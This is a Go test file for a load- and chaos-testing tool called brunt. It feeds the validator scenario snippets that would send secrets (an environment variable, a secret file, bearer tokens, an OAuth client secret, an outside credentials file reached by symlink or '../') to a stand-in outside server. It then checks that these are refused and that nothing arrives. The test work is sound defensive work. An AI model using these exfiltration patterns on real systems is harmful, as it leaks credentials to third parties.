package run_test

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"brunt/scenarios"
	"brunt/scenarios/plan"
	"brunt/scenarios/plan/plantest"
	"brunt/scenarios/run"
)

// A leak is a scenario that would carry a secret to a server that nothing allows. In its text FAR is the server, HOST
// its address without the port, and NEAR a target on loopback.
type leak struct {
	field  string // the field of addressFields that holds the address
	parts  string // top-level keys of the scenario
	late   bool   // the address is known only when a connection is made
	loaded bool   // the load would go there, so that guard.allow.load names it
}

// leaks has a scenario for each field that may hold an address, and some for its spellings.
var leaks = []leak{
	{
		field: "chaos/probe.Asking.scrape",
		parts: `metrics: {x: {scrape: "http://FAR/${env.BRUNT_TEST_LEAK}", metric: a, every: 100ms}}`,
	},
	{
		field: "chaos/probe.Asking.scrape",
		parts: `metrics: {x: {scrape: "http://FAR/?q=${file.secret.txt}", metric: a, every: 100ms}}`,
	},
	{
		field: "chaos/probe.Asking.scrape",
		parts: `watch: {x: {of: web, scrape: "http://FAR/${env.BRUNT_TEST_LEAK}", metric: a, every: 100ms}}`,
	},
	{
		field: "chaos/probe.Asking.get",
		parts: `metrics: {x: {get: "http://FAR/${env.BRUNT_TEST_LEAK}", every: 100ms}}`,
	},
	{
		field: "chaos/probe.Asking.get",
		parts: `metrics: {x: {get: "http://FAR/${unit.web.addr}/${env.BRUNT_TEST_LEAK}", every: 100ms}}`,
	},
	{
		field: "chaos/probe.Asking.get",
		parts: `watch: {x: {of: web, get: "http://FAR/${env.BRUNT_TEST_LEAK}", every: 100ms}}`,
	},
	{
		field: "chaos/probe.Asking.get",
		parts: `watch: {x: {of: web, get: "http://FAR/${self.name}", every: 100ms, headers: {X: "${env.BRUNT_TEST_LEAK}"}}}`,
	},
	{
		field: "chaos/probe.Asking.get",
		parts: `chaos: {it: {at: 200ms, for: 200ms, process.freeze: {service: web, pick: leader, ` +
			`leader: {get: "http://FAR/${env.BRUNT_TEST_LEAK}"}}}}`,
	},
	{
		field: "chaos/probe.Asking.get",
		parts: `chaos: {it: {at: 200ms, for: 200ms, process.freeze: {service: web}, ` +
			`detect: {get: "http://FAR/${env.BRUNT_TEST_LEAK}"}}}`,
	},
	{
		field: "chaos/probe.Asking.get",
		parts: `target: {processes: {web: {command: [ECHO], replicas: 2` +
			`, ready: {get: "http://FAR/${env.BRUNT_TEST_LEAK}", within: 1s, check: {status: 200}}}}}`,
	},
	{
		field: "chaos/probe.Asking.get", loaded: true,
		parts: `target: {url: "http://NEAR", ready: {get: "http://FAR/${env.BRUNT_TEST_LEAK}", within: 1s}}`,
	},
	{
		field: "chaos/probe.Asking.get",
		parts: `chaos: {it: {at: 200ms, for: 200ms, webhook: {inject: {post: "http://NEAR/"}, ` +
			`verify: {get: "http://FAR/${env.BRUNT_TEST_LEAK}"}, revert: {post: "http://NEAR/"}}}}`,
	},
	{
		field: "chaos/probe.Asking.prometheus",
		parts: `metrics: {x: {prometheus: "http://FAR", query: "a{b='${env.BRUNT_TEST_LEAK}'}", every: 100ms}}`,
	},
	{
		field: "chaos/probe.Asking.prometheus",
		parts: `chaos: {it: {at: 200ms, for: 200ms, process.freeze: {service: web}, ` +
			`detect: {prometheus: "http://FAR", query: "${env.BRUNT_TEST_LEAK}"}}}`,
	},
	{
		field: "chaos/probe.Query.url",
		parts: `metrics: {x: {query: {url: "http://FAR", promql: "${env.BRUNT_TEST_LEAK}"}, every: 100ms}}`,
	},
	{
		field: "chaos/probe.Metric.get",
		parts: `metrics: {x: {metric: {get: "http://FAR/${env.BRUNT_TEST_LEAK}", name: a}, every: 100ms}}`,
	},
	{
		field: "chaos/probe.Alert.prometheus",
		parts: `alerts: {X: {prometheus: "http://FAR", every: 100ms, ` +
			`headers: {Authorization: "Bearer ${env.BRUNT_TEST_LEAK}"}}}`,
	},
	{
		field: "chaos/probe.Alert.alertmanager",
		parts: `alerts: {X: {alertmanager: "http://FAR/${env.BRUNT_TEST_LEAK}", every: 100ms}}`,
	},
	{field: "chaos/probe.Call.get", parts: callOf(`get: "http://FAR/${env.BRUNT_TEST_LEAK}"`)},
	{field: "chaos/probe.Call.post", parts: callOf(`post: "http://FAR/", body: "${env.BRUNT_TEST_LEAK}"`)},
	{field: "chaos/probe.Call.put", parts: callOf(`put: "http://FAR/", json: {a: "${env.BRUNT_TEST_LEAK}"}`)},
	{
		field: "chaos/probe.Call.patch",
		parts: callOf(`patch: "http://FAR/${unit.web.addr}", headers: {X: "${env.BRUNT_TEST_LEAK}"}`),
	},
	{field: "chaos/probe.Call.delete", parts: callOf(`delete: "http://FAR/${env.BRUNT_TEST_LEAK}"`)},
	{field: "scenarios.Target.url", loaded: true, parts: `target: {url: "http://FAR/${env.BRUNT_TEST_LEAK}"}`},
	{
		field: "scenarios.Target.endpoints", loaded: true,
		parts: `target: {url: "http://NEAR", endpoints: {far: "ws://FAR"}}` + stepOf(`{ws: "/${env.BRUNT_TEST_LEAK}"}`),
	},
	{
		field: "scenarios.Target.endpoints", loaded: true,
		parts: `target: {url: "http://NEAR", endpoints: {far: "redis://FAR"}}` +
			stepOf(`{redis: [SET, a, "${env.BRUNT_TEST_LEAK}"]}`),
	},
	{
		field: "scenarios.Ready.get", loaded: true,
		parts: `target: {url: "http://NEAR", ready: {get: "http://FAR/${env.BRUNT_TEST_LEAK}"}}`,
	},
	{
		field: "scenarios.Ledger.at", loaded: true,
		parts: `ledger: {write: w, id: "${ledger.id}", read: {get: "/${id}"}, at: ["http://FAR"]}` +
			stepOf(`{name: w, post: /, json: {a: "${ledger.id}"}}`),
	},
	{
		field: "targets/http.requestStep.get", loaded: true,
		parts: stepOf(`{get: "http://FAR/${env.BRUNT_TEST_LEAK}"}`),
	},
	{
		field: "targets/http.requestStep.post", loaded: true,
		parts: stepOf(`{post: "http://FAR/", body: "${env.BRUNT_TEST_LEAK}"}`),
	},
	{
		field: "targets/http.requestStep.put", loaded: true,
		parts: `setup: [{put: "http://FAR/${env.BRUNT_TEST_LEAK}"}]`,
	},
	{
		field: "targets/http.requestStep.patch", loaded: true,
		parts: `teardown: [{patch: "http://FAR/${env.BRUNT_TEST_LEAK}"}]`,
	},
	{
		field: "targets/http.requestStep.delete", loaded: true,
		parts: `init: [{delete: "http://FAR/${env.BRUNT_TEST_LEAK}"}]`,
	},
	{
		field: "targets/http.requestStep.head", loaded: true,
		parts: stepOf(`{head: "http://FAR/${env.BRUNT_TEST_LEAK}"}`),
	},
	{
		field: "targets/http.requestStep.options", loaded: true,
		parts: stepOf(`{options: "http://FAR/${env.BRUNT_TEST_LEAK}"}`),
	},
	{
		field: "targets/http.requestStep.get", loaded: true, late: true,
		parts: "data: {to: {inline: [FAR]}}" + stepOf(`{get: "http://${data.to.value}/${env.BRUNT_TEST_LEAK}"}`),
	},
	{
		field: "targets/http.requestStep.get", loaded: true,
		parts: `metrics: {x: {ask: {get: "http://FAR/${env.BRUNT_TEST_LEAK}", extract: {value: "$"}}, every: 100ms}}`,
	},
	{
		field: "targets/http.graphQLStep.graphql", loaded: true,
		parts: stepOf(`{graphql: "http://FAR/${env.BRUNT_TEST_LEAK}", query: "{a}"}`),
	},
	{
		field: "targets/http.sseStep.sse", loaded: true,
		parts: stepOf(`{sse: "http://FAR/${env.BRUNT_TEST_LEAK}", events: 1}`),
	},
	{
		field: "targets/http/auth.OAuth2.token_url", loaded: true,
		parts: `auth: {oauth2: {token_url: "http://FAR/", client_id: a, client_secret: "${env.BRUNT_TEST_LEAK}"}}`,
	},
	{
		field: "scenarios.Connections.dns", loaded: true,
		parts: loadWith(`connections: {dns: "HOST"}`, `{get: "http://a.localhost/${env.BRUNT_TEST_LEAK}"}`),
	},
	{
		field: "scenarios.Connections.proxy", loaded: true,
		parts: loadWith(`connections: {proxy: "http://u:${env.BRUNT_TEST_LEAK}@FAR"}`, `{get: /}`),
	},
	{
		field: "scenarios.Load.resolve", loaded: true,
		parts: loadWith(`resolve: {a.test: FAR}`, `{get: "http://a.test/${env.BRUNT_TEST_LEAK}"}`),
	},
	{
		field: "targets/platform.Container.image",
		parts: `target: {containers: {web: {image: "FAR/web:${env.BRUNT_TEST_LEAK}", ports: [80]}}}`,
	},
	{
		field: "targets/platform.Container.image",
		parts: "params: {image: \"FAR/${hex(sha256(file.secret.txt))}:v1\"}\n" +
			`target: {containers: {web: {image: "${image}", ports: [80]}}}`,
	},
	{
		field: "scenarios.Kubernetes.image",
		parts: `target: {stack: demo, platform: kubernetes, ` +
			`kubernetes: {context: c, image: "FAR/brunt:${env.BRUNT_TEST_LEAK}"}}`,
	},
	{
		field: "scenarios.Workers.image",
		parts: `workers: {count: 2, on: kubernetes, context: c, image: "FAR/brunt:${env.BRUNT_TEST_LEAK}"}`,
	},
	{
		field: "scenarios.Trace.forward", loaded: true, // or guard.allow.chaos
		parts: `trace: {listen: ":0", forward: "http://FAR"}`,
	},
	{
		field: "scenarios.Load.targets", loaded: true,
		parts: `load: {main: {executor: constant-arrival-rate, rate: 20/s, duration: 1s, targets: targets.txt}}`,
	},
}

// callOf is a fault that makes a call.
func callOf(call string) string {
	return `chaos: {it: {at: 200ms, for: 200ms, webhook: {inject: {` + call +
		`}, verify: {get: "http://NEAR/"}, revert: {post: "http://NEAR/"}}}}`
}

// loadWith is a load with a setting and a step.
func loadWith(setting, step string) string {
	return "\nload: {main: {executor: constant-arrival-rate, rate: 20/s, duration: 1s, " + setting + ", flow: [" + step +
		"]}}"
}

// stepOf is a load with a step.
func stepOf(step string) string { return loadWith("timeout: 1s", step) }

// write writes the scenario with its files, and returns its path.
func (l leak) write(t *testing.T, remote *outsider, near string) string {
	t.Helper()
	text := "version: 1\nname: leak\n" + l.parts + "\n"
	for key, part := range map[string]string{
		"target": "{processes: {web: {command: [ECHO], replicas: 2, ready: {get: /}}}}",
		"load":   "{main: {executor: constant-arrival-rate, rate: 20/s, duration: 1s, flow: [{get: /}]}}",
	} {
		if !strings.Contains(text, "\n"+key+":") {
			text += key + ": " + part + "\n"
		}
	}
	file := scenario(t, strings.NewReplacer("FAR", remote.addr, "HOST", remote.ip, "NEAR", near).Replace(text))
	for name, content := range map[string]string{
		"secret.txt": "leak-of-a-file\n", "targets.txt": "GET http://" + remote.addr + "/\n",
		"access.csv": "time,method,path\n2026-01-01T00:00:00Z,GET,http://" + remote.addr +
			"/\n2026-01-01T00:00:01Z,GET,http://" + remote.addr + "/\n",
	} {
		if err := os.WriteFile(filepath.Join(filepath.Dir(file), name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return file
}

// compileUnder compiles a scenario under a policy; without one if the text is empty.
func compileUnder(t *testing.T, file, text string) (*plan.Plan, error) {
	t.Helper()
	var files []string
	if text != "" {
		files = append(files, plantest.WritePolicy(t, text))
	}
	read, err := plan.ReadPolicies(files, nil)
	if err != nil {
		t.Fatal(err)
	}
	sc, err := scenarios.Parse(file, scenarios.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return plan.Compile(sc, plan.CompileOptions{Self: []string{os.Args[0], "role"}, Policies: read})
}

// TestAddresses_Leaks plays scenarios that would carry secrets out: nothing reaches the server, and what is known
// before the run is refused with its place and what would allow it, without a policy and under the strictest one.
func TestAddresses_Leaks(t *testing.T) {
	t.Setenv("BRUNT_TEST_LEAK", "leak-of-a-variable")
	for _, c := range leaks {
		for _, limit := range []string{"", "allow: {load: [], chaos: []}"} {
			t.Run(strings.TrimSpace(c.field+" "+limit), func(t *testing.T) {
				remote := newOutsider(t)
				s := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
				t.Cleanup(s.Close)
				near := strings.TrimPrefix(s.URL, "http://")
				p, err := compileUnder(t, c.write(t, remote, near), limit)
				why := ""
				switch {
				case err != nil:
					why = err.Error()
				case !c.late:
					t.Error("validation does not see it")
				}
				if err == nil {
					res, err := run.Run(t.Context(), p, run.Options{State: t.TempDir()})
					if err != nil {
						t.Fatal(err)
					}
					if why = res.Reason; res.Verdict == scenarios.Pass {
						t.Error("it passes")
					}
					for _, e := range res.Errors {
						why += "; " + e.Kind
					}
				}
				if n := remote.hits.Load(); n > 0 {
					t.Errorf("%d connections came to %s", n, remote.addr)
				}
				want := []string{remote.ip, "allow.chaos"}
				switch {
				case c.late:
					want = []string{"not allowed"}
				case c.loaded:
					want = []string{remote.ip, "allow.load"}
				case limit != "":
					want = []string{remote.ip, "policy.yaml:2:1 (allow."}
				}
				for _, part := range want {
					if !strings.Contains(why, part) {
						t.Errorf("%q is missing in: %s", part, why)
					}
				}
				if place := regexp.MustCompile(`(scenario\.yaml|targets\.txt):\d+:\d+: `); !c.late && !place.MatchString(why) {
					t.Errorf("it says no place: %s", why)
				}
				if strings.Contains(why, "leak-of") {
					t.Errorf("it shows the secret: %s", why)
				}
			})
		}
	}
}

// TestAddresses_OutsideFiles checks that a file that requests send counts as a secret where it lies outside the
// scenario's folder, which a pull request can name and its author cannot read. A file in the folder does not count.
func TestAddresses_OutsideFiles(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "credentials")
	if err := os.WriteFile(outside, []byte("name\nkey-of-somebody\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ name, parts string }{
		{"a body", stepOf(`{post: "http://FAR/", body: {file: FILE}}`)},
		{"a body, after other steps", stepOf(`{get: "http://FAR/"}, {post: "http://NEAR/", body: {file: FILE}}`)},
		{"a part of a form", stepOf(`{post: "http://FAR/", multipart: {a: {file: FILE}}}`)},
		{"a table", "data: {a: {csv: FILE}}" + stepOf(`{post: "http://FAR/", body: "${data.a.name}"}`)},
	} {
		t.Run(c.name, func(t *testing.T) {
			remote := newOutsider(t)
			l := leak{parts: "target: {url: \"http://NEAR\"}\nguard: {allow: {load: [HOST]}}\n" + c.parts}
			for path, bad := range map[string]bool{
				"own.txt": false, "./own.txt": false, outside: true, "link.txt": true, "../" + filepath.Base(outside): true,
			} {
				one := l
				one.parts = strings.ReplaceAll(l.parts, "FILE", path)
				file := one.write(t, remote, "127.0.0.1:1")
				folder := filepath.Dir(file)
				if err := os.Symlink(outside, filepath.Join(folder, "link.txt")); err != nil {
					t.Fatal(err)
				}
				for _, made := range []string{
					filepath.Join(folder, "own.txt"), filepath.Join(filepath.Dir(folder), filepath.Base(outside)),
				} {
					if err := os.WriteFile(made, []byte("name\nkey\n"), 0o600); err != nil {
						t.Fatal(err)
					}
				}
				_, err := compileUnder(t, file, "allow: {secrets: []}")
				switch {
				case !bad && err != nil:
					t.Errorf("%s: %v", path, err)
				case bad && (err == nil || !strings.Contains(err.Error(), "such as the file "+path)):
					t.Errorf("%s is let out: %v", path, err)
				}
				for _, limit := range []string{"", "allow: {secrets: [" + remote.ip + "]}"} {
					if _, err := compileUnder(t, file, limit); err != nil {
						t.Errorf("%s is refused under %q: %v", path, limit, err)
					}
				}
			}
		})
	}
}

// TestAddresses_Secrets plays the same scenarios where the scenario itself allows the server: a policy that keeps
// secrets in refuses them. One that names the server lets them pass.
func TestAddresses_Secrets(t *testing.T) {
	t.Setenv("BRUNT_TEST_LEAK", "leak-of-a-variable")
	for _, c := range leaks {
		if c.late || !strings.Contains(c.parts, "${env") && !strings.Contains(c.parts, "${file") {
			continue
		}
		t.Run(c.field, func(t *testing.T) {
			remote := newOutsider(t)
			s := httptest.NewServer(nil)
			t.Cleanup(s.Close)
			near := strings.TrimPrefix(s.URL, "http://")
			c.parts += "\nguard: {allow: {load: [HOST], chaos: [HOST]}}"
			file := c.write(t, remote, near)
			_, err := compileUnder(t, file, "allow: {secrets: []}")
			if err == nil {
				t.Fatal("validation does not see it")
			}
			for _, part := range []string{
				"policy.yaml:2:1 (allow.secrets) does not let anything go to " + remote.ip,
				"from a scenario with secrets, such as ${",
			} {
				if !strings.Contains(err.Error(), part) {
					t.Errorf("%q is missing in: %v", part, err)
				}
			}
			for _, limit := range []string{"", "allow: {secrets: [" + remote.ip + "]}"} {
				_, err := compileUnder(t, file, limit)
				if err != nil && (c.field != "scenarios.Workers.image" || !strings.Contains(err.Error(), "do not reach it")) &&
					(c.field != "scenarios.Kubernetes.image" || !strings.Contains(err.Error(), "would be a pod")) {
					t.Errorf("it is refused under %q: %v", limit, err)
				}
			}
			if remote.hits.Load() > 0 {
				t.Error("it was asked by validation")
			}
		})
	}
}
